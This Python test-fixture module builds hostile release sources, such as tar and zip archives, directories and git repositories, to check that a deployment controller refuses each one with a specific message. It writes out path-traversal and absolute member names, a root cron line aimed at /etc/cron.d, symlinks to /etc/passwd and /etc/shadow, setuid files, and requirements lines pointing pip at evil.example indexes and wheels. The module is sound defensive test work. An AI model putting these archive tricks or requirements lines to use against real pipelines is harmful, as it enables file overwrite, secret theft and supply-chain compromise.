"""Hostile release sources, built by the tests themselves: archives with each kind of bad
member, directories whose symlinks leave them, git repositories with bad content.

Each builder writes into ``base`` and returns the source (a service entry's ``source``) and
a fragment the refusal must contain. A canary file outside every source stands for "a file
on the controller": hard links and symlinks aim at it, and its content, mode, owner and
mtime must survive.
"""

import io
import os
import stat
import subprocess
import tarfile
import zipfile

CANARY_TEXT = "controller secret - must never reach a host\n"


def make_canary(base):
    path = os.path.join(str(base), "canary.txt")
    with open(path, "w") as handle:
        handle.write(CANARY_TEXT)
    os.chmod(path, 0o600)
    os.utime(path, (1000000000, 1000000000))
    return path


def fingerprint(path):
    st = os.lstat(path)
    with open(path, "rb") as handle:
        return handle.read(), stat.S_IMODE(st.st_mode), st.st_uid, st.st_gid, st.st_mtime


def _tar(path, members):
    """members: list of (TarInfo kwargs, data bytes or None)."""
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        ok = tarfile.TarInfo("app.py")
        body = b"def application(e, s):\n    s('200 OK', [])\n    return [b'ok']\n"
        ok.size = len(body)
        tar.addfile(ok, io.BytesIO(body))
        for fields, data in members:
            info = tarfile.TarInfo(fields.pop("name"))
            for key, value in fields.items():
                setattr(info, key, value)
            if data is not None:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
    return path


def _zip(path, members):
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("app.py", "def application(e, s):\n    return [b'ok']\n")
        for name, mode, data in members:
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            zf.writestr(info, data)
    return path


def tar_cases(base, canary):
    """(id, archive path, refusal fragment) for tar archives with one bad member each."""
    base = str(base)
    rel_canary = os.path.relpath(canary, base)
    cases = [
        ("tar-absolute-name", [({"name": "/etc/cron.d/evil"}, b"* * * * * root sh\n")], "absolute name"),
        ("tar-dotdot-name", [({"name": "../../escape.py"}, b"x")], "'..' segment"),
        ("tar-dotdot-inside", [({"name": "pkg/../../escape.py"}, b"x")], "'..' segment"),
        ("tar-hardlink-to-canary", [({"name": "link", "type": tarfile.LNKTYPE, "linkname": canary, "mode": 0o777,
                                     "uid": 0, "gid": 0, "mtime": 0}, None)], "hard link"),
        ("tar-hardlink-relative", [({"name": "link2", "type": tarfile.LNKTYPE, "linkname": rel_canary}, None)],
         "hard link"),
        ("tar-symlink-absolute", [({"name": "passwd", "type": tarfile.SYMTYPE, "linkname": "/etc/passwd"}, None)],
         "absolute path"),
        ("tar-symlink-escapes", [({"name": "up", "type": tarfile.SYMTYPE, "linkname": "../../../etc"}, None)],
         "outside the release"),
        ("tar-symlink-chain-escapes", [({"name": "a", "type": tarfile.SYMTYPE, "linkname": "b/.."}, None),
                                       ({"name": "b", "type": tarfile.SYMTYPE, "linkname": ".."}, None)],
         "outside the release"),
        ("tar-write-through-symlink", [({"name": "d", "type": tarfile.SYMTYPE, "linkname": "pkg"}, None),
                                       ({"name": "pkg", "type": tarfile.DIRTYPE}, None),
                                       ({"name": "d/x.py"}, b"x")], "through the symlink"),
        ("tar-char-device", [({"name": "null", "type": tarfile.CHRTYPE, "devmajor": 1, "devminor": 3}, None)],
         "device file"),
        ("tar-block-device", [({"name": "sda", "type": tarfile.BLKTYPE, "devmajor": 8, "devminor": 0}, None)],
         "device file"),
        ("tar-fifo", [({"name": "pipe", "type": tarfile.FIFOTYPE}, None)], "fifo"),
        ("tar-setuid", [({"name": "suid", "mode": 0o4755}, b"#!/bin/sh\n")], "setuid"),
        ("tar-setgid", [({"name": "sgid", "mode": 0o2755}, b"#!/bin/sh\n")], "setuid, setgid"),
        ("tar-sticky-dir", [({"name": "tmpdir", "type": tarfile.DIRTYPE, "mode": 0o1777}, None)], "sticky"),
        ("tar-duplicate", [({"name": "dup.py"}, b"a"), ({"name": "dup.py"}, b"b")], "twice"),
        ("tar-newline-name", [({"name": "evil\nname.py"}, b"x")], "control character"),
    ]
    out = []
    for case_id, members, fragment in cases:
        out.append((case_id, _tar(os.path.join(base, case_id + ".tar.gz"), members), fragment))
    return out


def zip_cases(base):
    base = str(base)
    cases = [
        ("zip-absolute-name", [("/tmp/evil.py", 0o100644, "x")], "absolute name"),
        ("zip-dotdot-name", [("../evil.py", 0o100644, "x")], "'..' segment"),
        ("zip-symlink-escapes", [("etc", 0o120777, "../../../../etc")], "outside the release"),
        ("zip-symlink-absolute", [("shadow", 0o120777, "/etc/shadow")], "absolute path"),
        ("zip-setuid", [("suid", 0o104755, "#!/bin/sh\n")], "setuid"),
        ("zip-fifo", [("pipe", 0o010644, "")], "fifo"),
    ]
    return [(case_id, _zip(os.path.join(base, case_id + ".zip"), members), fragment)
            for case_id, members, fragment in cases]


def dir_cases(base, canary):
    """Directories (source type dir) whose content leaves them, and what the refusal says."""
    base = str(base)
    out = []

    def tree(case_id):
        path = os.path.join(base, case_id)
        os.makedirs(path)
        with open(os.path.join(path, "app.py"), "w") as handle:
            handle.write("def application(e, s):\n    return [b'ok']\n")
        return path

    path = tree("dir-symlink-out")
    os.symlink(canary, os.path.join(path, "secret.txt"))
    out.append(("dir-symlink-out", path, "outside the source", "source.path"))
    path = tree("dir-symlinked-dir-out")
    os.symlink("/etc", os.path.join(path, "etc"))
    out.append(("dir-symlinked-dir-out", path, "outside the source", "source.path"))
    path = tree("dir-requirements-symlink")
    os.symlink(canary, os.path.join(path, "requirements.txt"))
    out.append(("dir-requirements-symlink", path, "outside the source", "source.path"))
    path = tree("dir-fifo")
    os.mkfifo(os.path.join(path, "pipe"))
    out.append(("dir-fifo", path, "not a regular file", "source.path"))
    # A requirements file names where packages come from, or a file of the controller: each refused,
    # naming the file, the line and what is allowed, before anything is fetched or read.
    for case_id, lines, fragment in REQUIREMENTS_FILE_CASES:
        path = tree(case_id)
        with open(os.path.join(path, "requirements.txt"), "w") as handle:
            handle.write("Django>=5.2,<5.3\n" + lines.replace("CANARY", canary))
        if case_id == "req-include-loop":
            with open(os.path.join(path, "base.txt"), "w") as handle:
                handle.write("-r requirements.txt\n")
        out.append((case_id, path, fragment, "requirements_file"))
    return out


# (case, lines after a first good one, what the refusal says)
REQUIREMENTS_FILE_CASES = [
    ("req-index-url", "--index-url https://evil.example/simple\n", "line 2, is the option '--index-url'"),
    ("req-short-index", "-i https://evil.example/simple\n", "is the option '-i'"),
    ("req-extra-index", "--extra-index-url=https://evil.example/simple\n", "is the option '--extra-index-url'"),
    ("req-find-links-absolute", "-f /root/.ssh\n", "names '/root/.ssh', outside the source"),
    ("req-find-links-up", "--find-links ../../\n", "outside the source"),
    ("req-find-links-url", "--find-links https://evil.example/wheels/\n", "is the option '--find-links'"),
    ("req-find-links-file", "--find-links app.py\n", "not a directory of the source"),
    ("req-trusted-host", "--trusted-host evil.example\n", "is the option '--trusted-host'"),
    ("req-constraint", "-c /etc/passwd\n", "is the option '-c'"),
    ("req-editable", "-e git+https://evil.example/x.git#egg=x\n", "is the option '-e'"),
    ("req-include-outside", "-r ../../../etc/passwd\n", "outside the source"),
    ("req-include-absolute", "-r CANARY\n", "outside the source"),
    ("req-include-missing", "-r nothere.txt\n", "which the source does not have"),
    ("req-include-loop", "-r base.txt\n", "in a loop"),
    ("req-direct-url", "evil @ https://evil.example/evil-1.0-py3-none-any.whl\n", "names a URL or path"),
    ("req-local-path", "./vendor/evil.whl\n", "is not a requirement specifier"),
    ("req-bad-option-after", "django==5.2 --global-option=--evil\n", "has the option '--global-option'"),
    ("req-continued-option", "django==5.2 \\\n    --install-option=x\n", "line 2, has the option '--install-option'"),
    ("req-control-char", "django\x1b[2J==5.2\n", "has a control character"),
    ("req-pip-option", "--use-feature=truststore\n", "is the option '--use-feature'"),
]


def git_repo(path, files, symlinks=()):
    """A git repository at ``path`` with the files (name -> text) and symlinks (name -> target)."""
    os.makedirs(path, exist_ok=True)
    run = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run(run + ["init", "-q", "-b", "main"], cwd=path, check=True, capture_output=True)
    for name, text in files.items():
        full = os.path.join(path, name)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "w") as handle:
            handle.write(text)
    for name, target in symlinks:
        os.symlink(target, os.path.join(path, name))
    subprocess.run(run + ["add", "-A"], cwd=path, check=True, capture_output=True)
    subprocess.run(run + ["commit", "-q", "-m", "one"], cwd=path, check=True, capture_output=True)
    subprocess.run(run + ["tag", "v1"], cwd=path, check=True, capture_output=True)
    return path
